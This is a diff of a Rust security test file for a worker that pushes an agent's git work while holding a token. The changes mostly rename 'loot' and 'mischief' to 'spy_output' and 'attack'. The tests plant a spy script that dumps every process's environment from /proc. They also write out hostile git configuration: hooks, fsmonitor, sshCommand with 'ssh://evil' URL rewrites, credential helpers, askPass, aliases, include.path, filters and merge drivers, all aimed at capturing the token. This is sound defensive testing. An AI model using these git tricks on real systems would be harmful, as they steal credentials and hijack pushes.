@@ -1,9 +1,9 @@
-//! For whoever lends a worker a token: whatever an agent leaves in its clone, its HOME or its PATH,
-//! nothing of it is run with the token near, and the work arrives all the same.
+//! For people who give a worker a git token: whatever an agent leaves in its clone, its HOME or its
+//! PATH, the worker runs none of it while a process has the token, and the work is pushed anyway.
 //!
-//! Every test plants a spy, a program that writes down its environment and that of every process
-//! but the workers (nothing protects those from an agent that is root), where a careless worker's
-//! git would run it.
+//! In every test the agent installs a spy where a careless worker's git would run it. The spy is a
+//! program that writes its environment, and that of every other process except the workers, to a
+//! file. (Nothing protects a worker from an agent that is root, as it is in some test environments.)
 
 mod contents;
 
@@ -18,7 +18,7 @@ use crate::support::{Forge, Origin, Receiver, path, quoted};
 
 const BRANCH: &str = "descartes/proj-456/8";
 
-/// A project behind a token, and a spy.
+/// A project whose repository requires a token, and a spy.
 struct Scene {
     origin: Origin,
     forge: Forge,
@@ -41,7 +41,7 @@ impl Scene {
                     *) tr '\\0' '\\n' < $process/environ ;;
                 esac
             done; }} >> {} 2>/dev/null; cat; exit 0",
-            quoted(origin.path("loot"))
+            quoted(origin.path("spy_output"))
         );
         program(&spy, &script);
         Self {
@@ -56,18 +56,18 @@ impl Scene {
         self.origin.path("spy")
     }
 
-    fn loot(&self) -> String {
-        fs::read_to_string(self.origin.path("loot")).unwrap_or_default()
+    fn spy_output(&self) -> String {
+        fs::read_to_string(self.origin.path("spy_output")).unwrap_or_default()
     }
 
-    /// Has an agent do its work and then its mischief; `$SPY` is the spy's path, `$RUN` a shell's
-    /// command that runs it, `$AT` a directory of the agent's outside the project. Gives the
-    /// terminal event.
+    /// Runs an agent that does its work and then the attack, and asserts that the spy did not see the
+    /// token; returns the terminal event. In the attack, `$SPY` is the path of the spy, `$RUN` a shell
+    /// command that runs it, and `$AT` a directory outside the project that the agent can write.
     #[track_caller]
-    fn play(&self, mischief: &str) -> Value {
+    fn attack(&self, attack: &str) -> Value {
         let path = format!("{}:{}", self.origin.path("bin").display(), path().display());
         let agent = format!(
-            "SPY={}; RUN={}; AT={}; echo done > DONE\n{mischief}\nrm -f \"$AT/loot\"; true",
+            "SPY={}; RUN={}; AT={}; echo done > DONE\n{attack}\nrm -f \"$AT/spy_output\"; true",
             quoted(self.spy()),
             quoted(quoted(self.spy())),
             quoted(self.origin.path("tmp").parent().expect("a parent"))
@@ -83,40 +83,44 @@ impl Scene {
             .run();
         let story = self.receiver.story();
         assert_eq!(story.len(), 2, "{ended:#?}");
-        let loot = self.loot();
+        let spy_output = self.spy_output();
         assert!(
-            !loot.contains(&self.token),
-            "the spy saw the token:\n{loot}"
+            !spy_output.contains(&self.token),
+            "the spy saw the token:\n{spy_output}"
         );
         self.receiver.only(&story[1])
     }
 
-    /// The same, where the work must arrive and the spy must never run.
+    /// Like [`Self::attack`]; also asserts that the work was pushed and that the spy never ran.
     #[track_caller]
-    fn harmless(&self, mischief: &str) -> Value {
-        let event = self.play(mischief);
+    fn assert_harmless(&self, attack: &str) -> Value {
+        let event = self.attack(attack);
         assert_eq!(event["status"], "completed", "{event}");
-        assert_eq!(self.loot(), "", "the spy ran");
+        assert_eq!(self.spy_output(), "", "the spy ran");
         assert_eq!(self.origin.show(BRANCH, "DONE"), "done");
         event["result"]["work"].clone()
     }
 }
 
 #[test]
-fn the_spy_sees_what_there_is_to_see() {
+fn the_spy_writes_down_a_token_in_its_environment() {
     let scene = Scene::new();
     let status = Command::new(scene.spy())
-        .env("HELD", &scene.token)
+        .env("TOKEN", &scene.token)
         .stdin(std::process::Stdio::null())
         .status();
     assert!(status.unwrap().success());
-    assert!(scene.loot().contains(&format!("HELD={}", scene.token)));
+    assert!(
+        scene
+            .spy_output()
+            .contains(&format!("TOKEN={}", scene.token))
+    );
 }
 
 #[test]
-fn the_agent_itself_is_not_shown_the_token() {
+fn the_agents_own_processes_do_not_see_the_token() {
     let scene = Scene::new();
-    let event = scene.play(r#""$SPY" < /dev/null; mv "$AT/loot" "$AT/kept""#);
+    let event = scene.attack(r#""$SPY" < /dev/null; mv "$AT/spy_output" "$AT/kept""#);
     assert_eq!(event["status"], "completed");
     let seen = fs::read_to_string(scene.origin.path("kept")).unwrap();
     assert!(
@@ -127,7 +131,7 @@ fn the_agent_itself_is_not_shown_the_token() {
 
 #[test]
 fn hooks_do_not_run() {
-    Scene::new().harmless(
+    Scene::new().assert_harmless(
         r#"mkdir -p .git/hooks; for hook in pre-commit commit-msg post-commit pre-push post-checkout post-index-change
          do cp "$SPY" .git/hooks/$hook; done
          for hook in reference-transaction pre-auto-gc fsmonitor-watchman; do cp "$SPY" .git/hooks/$hook; done
@@ -137,31 +141,32 @@ fn hooks_do_not_run() {
 
 #[test]
 fn a_file_system_monitor_does_not_run() {
-    Scene::new()
-        .harmless(r#"git config core.fsmonitor "$RUN"; git config --global core.fsmonitor "$RUN""#);
+    Scene::new().assert_harmless(
+        r#"git config core.fsmonitor "$RUN"; git config --global core.fsmonitor "$RUN""#,
+    );
 }
 
 #[test]
 fn an_ssh_command_does_not_run() {
     let scene = Scene::new();
-    let mischief = format!(
+    let attack = format!(
         "for where in --local --global; do git config $where core.sshCommand \"$RUN\"
          git config $where ssh.variant simple; git config $where url.ssh://evil/.insteadOf {}/; done",
         scene.forge.base()
     );
-    scene.harmless(&mischief);
+    scene.assert_harmless(&attack);
 }
 
 #[test]
 fn a_credential_helper_is_not_asked() {
     let scene = Scene::new();
-    let mischief = format!(
+    let attack = format!(
         "for where in --local --global; do git config $where credential.helper \"!$RUN\"
          git config $where credential.{}.helper \"!$RUN\"; done
          printf 'machine 127.0.0.1 login agent password guessed\\n' > \"$HOME/.netrc\"",
         scene.forge.base()
     );
-    scene.harmless(&mischief);
+    scene.assert_harmless(&attack);
     let guessed = scene.forge.journal().iter().any(|(_, sent)| {
         // agent:guessed
         sent.as_deref() == Some("Basic YWdlbnQ6Z3Vlc3NlZA==")
@@ -170,30 +175,30 @@ fn a_credential_helper_is_not_asked() {
 }
 
 #[test]
-fn another_url_instead_is_not_taken() {
+fn rewritten_urls_and_proxies_are_ignored() {
     let scene = Scene::new();
     let evil = Forge::start(&scene.origin.path(""), None);
-    let mischief = format!(
+    let attack = format!(
         "for where in --local --global; do git config $where url.{evil}/.insteadOf {base}/
          git config $where url.{evil}/.pushInsteadOf {base}/; git config $where http.proxy {evil}
          git config $where remote.origin.url {evil}/project.git; done",
         evil = evil.base(),
         base = scene.forge.base()
     );
-    scene.harmless(&mischief);
+    scene.assert_harmless(&attack);
     assert_eq!(evil.journal(), []);
 }
 
 #[test]
 fn a_program_that_asks_for_passwords_does_not_run() {
-    Scene::new().harmless(
+    Scene::new().assert_harmless(
         r#"for where in --local --global; do git config $where core.askPass "$SPY"; done"#,
     );
 }
 
 #[test]
-fn a_diff_of_the_agents_does_not_run() {
-    Scene::new().harmless(
+fn configured_diff_programs_do_not_run() {
+    Scene::new().assert_harmless(
         r#"for where in --local --global; do git config $where diff.external "$RUN"; git config $where diff.spy.textconv "$RUN"
          git config $where diff.spy.command "$RUN"; git config $where core.pager "$RUN"; git config $where interactive.diffFilter "$RUN"; done
          echo '* diff=spy' > .gitattributes; mkdir -p .git/info; echo '* diff=spy' > .git/info/attributes; echo changed >> README"#,
@@ -202,15 +207,15 @@ fn a_diff_of_the_agents_does_not_run() {
 
 #[test]
 fn aliases_do_not_run() {
-    Scene::new().harmless(
+    Scene::new().assert_harmless(
         "for where in --local --global; do for command in init add write-tree commit-tree rev-parse rev-list push diff \
          cat-file merge-base read-tree; do git config $where alias.$command \"!$RUN\"; done; done",
     );
 }
 
 #[test]
-fn included_configuration_is_not_in_force() {
-    Scene::new().harmless(
+fn included_configuration_is_ignored() {
+    Scene::new().assert_harmless(
         r#"set_evil() { git config --file "$AT/evil" "$@"; }
          set_evil core.fsmonitor "$RUN"; set_evil core.sshCommand "$RUN"; set_evil core.askPass "$SPY"
          set_evil credential.helper "!$RUN"; git config include.path "$AT/evil"; git config --global include.path "$AT/evil"
@@ -223,12 +228,12 @@ fn included_configuration_is_not_in_force() {
 fn filters_that_the_agent_configured_run_without_the_token() {
     let scene = Scene::new();
     let filter = quoted(quoted(scene.origin.path("clean")));
-    let event = scene.play(&format!(
+    let event = scene.attack(&format!(
         r#"cat > "$AT/clean" <<'END'
 #!/bin/sh
 at=${{0%/*}}
 echo ran >> "$at/ran"
-tr '\0' '\n' < /proc/self/environ >> "$at/loot"
+tr '\0' '\n' < /proc/self/environ >> "$at/spy_output"
 tr a-z A-Z
 END
          chmod +x "$AT/clean"; for where in --local --global; do git config $where filter.spy.clean {filter}; done
@@ -242,9 +247,9 @@ END
 }
 
 #[test]
-fn attributes_of_the_agent_run_no_merge_driver() {
+fn a_merge_driver_in_the_agents_attributes_does_not_run() {
     let scene = Scene::new();
-    scene.harmless(
+    scene.assert_harmless(
         r#"mkdir -p .git/info "$HOME/.config/git"; for file in .gitattributes .git/info/attributes "$HOME/.config/git/attributes"; do
          echo '* merge=spy text eol=crlf' > "$file"; done
          for where in --local --global; do git config $where merge.spy.driver "$RUN"; done; touch README; echo new > new"#,
